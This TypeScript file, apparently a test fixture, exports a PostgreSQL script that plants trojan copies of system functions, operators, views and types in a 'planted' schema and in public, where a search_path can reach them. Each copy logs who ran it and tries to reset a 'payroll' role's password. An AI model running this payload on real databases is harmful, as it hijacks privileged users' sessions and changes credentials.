// What the owner of a database may leave in it for others to run: a twin of whatever PostgreSQL itself has, in a schema that
// a search_path can put first, and in `public`. Each run of one is written into the server's log.

/** To be run by the owner, in the database. */
export const planted = `
	SET check_function_bodies = off;
	CREATE SCHEMA planted;
	GRANT ALL ON SCHEMA planted, public TO PUBLIC;

	CREATE FUNCTION planted.ran() RETURNS boolean VOLATILE LANGUAGE plpgsql AS $code$ BEGIN
		RAISE LOG 'planted code ran as <%>', session_user;
		-- What an attacker is after; most who run it may not.
		EXECUTE 'ALTER ROLE payroll PASSWORD ''planted''';
		RETURN true;
	EXCEPTION WHEN others THEN RETURN true; END $code$;

	CREATE FUNCTION planted.on_event() RETURNS event_trigger LANGUAGE plpgsql AS $code$ BEGIN
		PERFORM planted.ran();
	END $code$;

	DO $all$
	DECLARE
		each record;
		home text;
	BEGIN
		FOREACH home IN ARRAY ARRAY['planted', 'public'] LOOP
			FOR each IN
				SELECT proname, pg_get_function_identity_arguments(oid) AS arguments, prorettype::regtype AS result,
					proretset, array_to_string(ARRAY(SELECT format_type(type, NULL) FROM unnest(proargtypes) AS type), ', ') AS types
				FROM pg_proc AS made
				WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f'
					AND NOT EXISTS (SELECT FROM pg_type WHERE oid = ANY (made.proargtypes) AND typtype = 'p')
			LOOP
				BEGIN
					EXECUTE format(
						'CREATE FUNCTION %I.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS %L',
						home, each.proname, each.types, CASE WHEN each.proretset THEN 'SETOF ' ELSE '' END, each.result,
						CASE WHEN each.result = 'void'::regtype OR each.proretset
							THEN 'BEGIN PERFORM planted.ran(); RETURN; END'
							ELSE 'BEGIN PERFORM planted.ran(); RETURN NULL; END' END);
				EXCEPTION WHEN others THEN NULL; END;
			END LOOP;

			FOR each IN
				SELECT oprname, proname, oprleft::regtype AS l, oprright::regtype AS r
				FROM pg_operator JOIN pg_proc ON pg_proc.oid = oprcode
				WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprleft <> 0
			LOOP
				BEGIN
					EXECUTE format('CREATE OPERATOR %I.%s (FUNCTION = %I.%I, LEFTARG = %s, RIGHTARG = %s)',
						home, each.oprname, home, each.proname, each.l, each.r);
				EXCEPTION WHEN others THEN NULL; END;
			END LOOP;

			FOR each IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
				BEGIN
					EXECUTE format('CREATE VIEW %I.%I AS SELECT planted.ran(), * FROM pg_catalog.%I', home, each.relname, each.relname);
					EXECUTE format('GRANT SELECT ON %I.%I TO PUBLIC', home, each.relname);
				EXCEPTION WHEN others THEN NULL; END;
			END LOOP;

			FOR each IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' LOOP
				BEGIN
					EXECUTE format('CREATE DOMAIN %I.%I AS pg_catalog.%I CHECK (planted.ran())', home, each.typname, each.typname);
				EXCEPTION WHEN others THEN NULL; END;
			END LOOP;
		END LOOP;
	END $all$`;
